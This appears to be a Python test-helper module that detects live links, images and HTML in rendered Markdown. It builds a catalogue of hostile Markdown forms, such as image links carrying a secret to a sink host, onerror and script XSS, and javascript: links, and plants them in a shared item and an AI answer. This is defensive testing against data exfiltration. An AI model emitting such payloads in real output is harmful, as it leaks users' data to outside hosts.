"""What a reader's Markdown renderer would make live in a piece of Markdown we produce.

`live_markup` renders it with markdown-it (CommonMark + tables + strikethrough, as Streamlit,
GitHub and Jupyter read it) and then does what their autolinkers (remark-gfm, cmark-gfm,
marked) do to plain text: a bare `http://…`, `www.…` or `name@host.org` outside code becomes
a link, even when its characters were backslash-escaped. The browser test checks the same
thing in Streamlit itself."""

import html
import re
from typing import TYPE_CHECKING

from markdown_it import MarkdownIt

if TYPE_CHECKING:
    from services.access.users import UserView

_MD = MarkdownIt("commonmark", {"html": False}).enable(["table", "strikethrough"])
_CODE = re.compile(r"<code[^>]*>.*?</code>", re.DOTALL)
_TAG = re.compile(r"<[^>]+>")
_AUTOLINK = re.compile(r"(?i)https?://|www\.|[-.\w+]+@[-\w]+\.[-\w]")


def rendered_html(markdown: str) -> str:
    return _MD.render(markdown)


def visible_text(markdown: str) -> str:
    """What a reader sees, code included, with runs of spaces made one."""
    page = re.sub(r"</?(?:code|strong|em|s)>", "", rendered_html(markdown))
    return " ".join(html.unescape(_TAG.sub(" ", page)).split())


def live_markup(markdown: str) -> list[str]:
    """Every link, image, raw HTML element or autolinkable address in `markdown`."""
    page = rendered_html(markdown)
    found = re.findall(r"<(?:a|img|script|iframe)\b[^>]*>", page)
    outside_code = html.unescape(_TAG.sub(" ", _CODE.sub(" ", page)))
    return found + _AUTOLINK.findall(outside_code)


SECRET = "d=SECRET42"


def hostile_forms(base: str) -> dict[str, str]:
    """Every way we know to put an image, a link or an address in Markdown, pointing at
    `base` (a sink that counts requests in the browser test)."""
    return {
        "inline image": f"Sales rose. ![chart]({base}/p.png?{SECRET})",
        "reference image": f"Look ![r][1] here.\n\n[1]: {base}/r.png?{SECRET}",
        "reference link": f"See [the report][r].\n\n[r]: {base}/l?{SECRET}",
        "autolink": f"Go <{base}/a?{SECRET}> now, or <mail@sink.test>.",
        "bare URL": f"Open {base}/b?{SECRET} or www.sink.test/w?{SECRET}.",
        "bare e-mail": "Write to boss@sink.test today.",
        "escaped scheme": "Open " + base.replace("://", "\\://") + f"/e?{SECRET} now.",
        "HTML img": f'<img src="{base}/h.png?{SECRET}">\n\nand <img src=x onerror=alert(1)>',
        "nested": f"[![x]({base}/n.png?{SECRET})]({base}/m?{SECRET})",
        "brackets": f"[[nested [deep]]]({base}/c?{SECRET})",
        "entity bang": f"&#33;[x]({base}/e.png?{SECRET})",
        "script": "<script>alert(1)</script> and [bad](javascript:alert(2))",
        "in a table": f"| a | b |\n|---|---|\n| ![t]({base}/t.png?{SECRET}) | "
                      f"{base}/c?{SECRET} |",
        "in a list and quote": f"- ![l]({base}/l.png?{SECRET})\n\n> www.sink.test/q",
        "in a heading": f"# Results ![h]({base}/h.png?{SECRET})",
        "streamlit directives": ":red[coloured] :material/home: :smile: $x^2$",
        "underscore before scheme": f"x_{base}/u?{SECRET}",
    }


def hostile_text(base: str) -> str:
    return "\n\n".join(hostile_forms(base).values())


def save_hostile_item(owner: "UserView", base: str) -> int:
    """A shared item whose notes and Claude answer hold every form, and whose chart caption
    is built from cells holding an address: what another person opening it must not fetch."""
    import pandas as pd

    from services.charts.spec import ChartSpec
    from services.research import items, notes
    from services.research import saved_insights as research
    from services.research.items import ItemInput
    from services.research.notes import NoteSave
    from services.research.saved_insights import NewInsight

    item = items.create_item(owner, ItemInput(title="Hostile text", visibility="shared"))
    notes.save_notes(owner, item.id, NoteSave(text=hostile_text(base), base_version=0))
    research.save_insight(owner, NewInsight(
        item_id=item.id, kind="answer", title="An answer that tries everything",
        summary=hostile_text(base),
        spec={"question": "Which day?", "sql": "SELECT day, tip FROM tips",
              "chart": ChartSpec(chart_type="bar", x="day", y="tip", agg="mean").model_dump(),
              "tables": {"tips": "tips"}, "row_count": 2}),
        pd.DataFrame({"day": [f"{base}/cell?{SECRET}", "Sat"], "tip": [3.2, 2.9]}))
    return item.id
